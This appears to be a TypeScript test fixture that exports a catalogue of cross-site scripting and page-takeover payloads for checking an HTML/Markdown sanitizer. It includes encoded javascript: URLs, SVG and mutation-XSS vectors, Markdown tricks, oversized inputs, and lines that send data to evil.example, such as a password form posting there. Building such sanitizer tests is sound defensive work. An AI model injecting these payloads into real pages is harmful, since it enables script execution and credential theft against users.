/**
 * One of each class of ways to run script, or to take over a page, from text that becomes markup. Each calls `alert` (or
 * loads from evil.example, or rewrites the page) when it works.
 */

const handlers = 'onerror onload onclick onmouseover onfocus ontoggle onanimationstart onwheel onpaste'.split(' ');

/** Every event handler on an element that is allowed, and on one that is not. */
const onAllowed = handlers.map((name) => `<p ${name}=alert(1) tabindex=0 autofocus contenteditable>words</p>`);
const onImage = handlers.map((name) => `<img src=x ${name}=alert(1)>`);
const onUnknown = handlers.map((name) => `<x-element ${name}=alert(1) tabindex=1 autofocus>words</x-element>`);

const targets = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&Tab;script&colon;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '//evil.example/steal',
  '/api/signout',
];
const links = targets.flatMap((target) => [
  `<a href="${target}" autofocus>press</a>`,
  `[press](<${target.replaceAll('\n', ' ')}>)`,
  `<img src="${target}" alt="picture">`,
]);
const inMarkdown = targets
  .slice(0, 10)
  .flatMap((target) => [`![picture](${target})`, `<${target}>`, `[press][1]\n\n[1]: ${target}`]);

const scripts = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type=importmap>{"imports":{"a":"https://evil.example/x.js"}}</script>',
  '<script async defer nomodule>alert(1)</script>',
  '<!-- --!><script>alert(1)</script>',
  '\'"></textarea></title></style><script>alert(1)</script>',
  '\u0000<script>alert(1)</script>',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
];

const vectors = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>press</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) xmlns=http://www.w3.org/2000/svg></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math href="javascript:alert(1)">press</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
];

/** Markup that means one thing when it is cleaned and another when it is parsed again. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<p id="</p><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><slot></slot><script>alert(1)</script></template></div>',
];

const embedded = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x" codebase="https://evil.example/"></applet>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>words</summary></details>',
  '<body onload=alert(1)>',
  '<picture><source srcset="x" onerror=alert(1)><img src=x onerror=alert(1)></picture>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<input autofocus onfocus=alert(1)>',
  '<button popovertarget=x>press</button><p popover id=x onbeforetoggle=alert(1)>words</p>',
  '<p is="x-element" onclick=alert(1)>words</p>',
];

/** Without script: sending the reader elsewhere, dressing the page up, or standing in for what the page looks up. */
const takeovers = [
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=import href=https://evil.example/x.html>',
  '<style>*{display:none!important}</style>',
  '<p style="position:fixed;inset:0;background:red;z-index:9999">covered</p>',
  '<p style="background:url(https://evil.example/leak)">words</p>',
  '<p class="fixed inset-0 z-50 modal modal-open">covered</p>',
  '<form action="https://evil.example/steal"><input name=password autofocus><button>Log in</button></form>',
  '<form action="javascript:alert(1)"><button autofocus>press</button></form>',
  '<button form=x formaction="javascript:alert(1)">press</button>',
  '<form id=attributes><input name=childNodes></form>',
  '<a id=apiBase name=apiBase href="https://evil.example/">words</a>',
  '<img id=getElementById><img name=querySelector>',
  '<a href="https://example.com" ping="https://evil.example/leak">press</a>',
  '<img src="https://evil.example/leak',
];

/** Payloads that become dangerous only through Markdown. */
const markdown = [
  '[press](javascript:alert(1))',
  '[press](javascript&#58;alert(1))',
  '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[press](<https://example.com" onmouseover="alert(1)>)',
  '![x" onerror="alert(1)](x)',
  '![<script>alert(1)</script>](x)',
  'https://example.com/"onmouseover="alert(1)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |',
  '# <img src=x onerror=alert(1)>',
  '[a]: javascript:alert(1) "x"\n\n[press][a]',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<!--\n\n--><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Oversized and deeply nested: these must be quick and leave the page standing. */
const heavy = [
  '> '.repeat(9000),
  '['.repeat(19_000),
  `${'<div>'.repeat(3900)}`,
  `<p>${Array.from({ length: 900 }, (_, i) => `<b class=${i}>`).join('')}${'<p>x'.repeat(900)}`,
  `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n${'|x|\n'.repeat(4000)}`,
  '*a_ '.repeat(4900),
];

export const xssPayloads: readonly string[] = [
  ...new Set([
    ...scripts,
    ...onAllowed,
    ...onImage,
    ...onUnknown,
    ...links,
    ...inMarkdown,
    ...vectors,
    ...mutations,
    ...embedded,
    ...takeovers,
    ...markdown,
    ...heavy,
  ]),
];
